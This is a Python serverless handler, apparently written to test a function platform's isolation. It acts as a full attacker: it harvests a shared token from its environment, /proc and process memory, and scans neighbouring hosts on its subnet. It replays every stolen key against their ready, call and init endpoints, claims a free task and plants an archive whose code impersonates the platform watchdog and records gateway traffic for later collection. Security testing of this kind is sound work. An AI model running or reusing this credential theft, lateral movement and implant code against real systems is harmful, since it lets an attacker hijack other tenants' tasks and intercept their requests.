"""Acts as an attacker on a claimed warm task: looks for the warm service's shared key in
its environment and its own process, tries it and every token it finds on every task of
its network, and claims an unclaimed task with it, planting there a spy that answers as a
fresh warm watchdog would and keeps whatever a gateway sends it (`?collect=1` fetches it).
"""

import gc
import http.client
import io
import ipaddress
import json
import os
import secrets
import socket
import tarfile

PORT = 8080
SPY = '''
import gc
import json

CAPTURED = []
watchdog = next(o for o in gc.get_objects() if type(o).__name__ == "Watchdog")


def spy(conn, request):
    """Answer everything as a fresh warm watchdog would; keep what arrives."""
    faas = request.faas
    body = request.body if isinstance(request.body, bytes) else b""
    if request.path == "/_/spy":
        conn.respond(200, json.dumps(CAPTURED).encode(), "application/json", "spy")
        return
    CAPTURED.append({"path": request.path, "claim": "x-faas-claim" in faas, "body": len(body)})
    answer = {"status": "claimed"} if "x-faas-claim" in faas else {"status": "ready"}
    conn.respond(200, json.dumps(answer).encode(), "application/json", "spy")


watchdog.dispatch = spy


def handle(event, context):
    return "spy"
'''
PLANTED = {}


def environment_key():
    if os.environ.get("FAAS_TOKEN"):
        return os.environ["FAAS_TOKEN"]
    try:
        with open("/proc/self/environ", "rb") as environ:
            for entry in environ.read().split(b"\0"):
                if entry.startswith(b"FAAS_TOKEN="):
                    return entry.split(b"=", 1)[1].decode()
    except OSError as exc:
        return f"unreadable: {type(exc).__name__}"
    return None


def keys_in_memory():
    """Every string that looks like a token, held by any object of this process."""
    found = set()
    for obj in gc.get_objects():
        token = getattr(obj, "token", None) if not isinstance(obj, type) else None
        if isinstance(token, str) and len(token) >= 32:
            found.add(token)
        secret = getattr(obj, "_token", None) if not isinstance(obj, type) else None
        if isinstance(secret, bytes) and len(secret) >= 32:
            found.add(secret.decode())
    return sorted(found)


def privileges():
    with open("/proc/self/status") as status:
        fields = dict(line.split(":", 1) for line in status if ":" in line)
    try:
        os.chmod(__file__, 0o666)
        chmod = True
    except OSError:
        chmod = False
    return {"uid": os.getuid(), "cap_eff": int(fields["CapEff"], 16), "chmod_own_code": chmod}


def neighbours():
    own = socket.gethostbyname(socket.gethostname())
    network = ipaddress.ip_network(f"{own}/24", strict=False)
    for host in list(network.hosts())[:16]:  # a fresh network: its tasks have the first ones
        address = str(host)
        if address == own:
            continue
        try:
            socket.create_connection((address, PORT), timeout=0.15).close()
        except OSError:
            continue
        yield address


def request(address, method, path, token, body=b"", headers=None):
    connection = http.client.HTTPConnection(address, PORT, timeout=5)
    try:
        connection.request(method, path, body=body, headers={"X-Faas-Token": token, **(headers or {})})
        response = connection.getresponse()
        return response.status, response.read()[:2000].decode(errors="replace")
    except (OSError, http.client.HTTPException) as exc:
        return 0, type(exc).__name__
    finally:
        connection.close()


def spy_archive():
    buffer = io.BytesIO()
    settings = {"function": "spy", "handler_file": "spy.py", "environment": {}}
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in (("init.json", json.dumps(settings)), ("app/spy.py", SPY)):
            data = content.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def handle(event, context):
    if event.query.get("collect"):
        address, token = PLANTED["address"], PLANTED["token"]
        return {"planted": address, "captured": json.loads(request(address, "GET", "/_/spy", token)[1])}
    keys = keys_in_memory()
    report = {"environment_key": environment_key(), "keys": len(keys), "peers": {}}
    report.update(privileges())
    for address in neighbours():
        tries = {}
        for n, key in enumerate(keys):
            tries[f"ready-{n}"] = request(address, "GET", "/_/ready", key)[0]
            tries[f"call-{n}"] = request(address, "POST", "/", key, b"stolen?")
            token = secrets.token_urlsafe(32)
            claimed = request(address, "POST", "/_/init", key, b"", {"X-Faas-Claim": token})[0]
            tries[f"claim-{n}"] = claimed
            if claimed == 200 and not PLANTED:
                planted = request(address, "POST", "/_/init", token, spy_archive())[0]
                PLANTED.update(address=address, token=token, status=planted)
        report["peers"][address] = tries
    report["planted"] = dict(PLANTED, token=None)
    return report
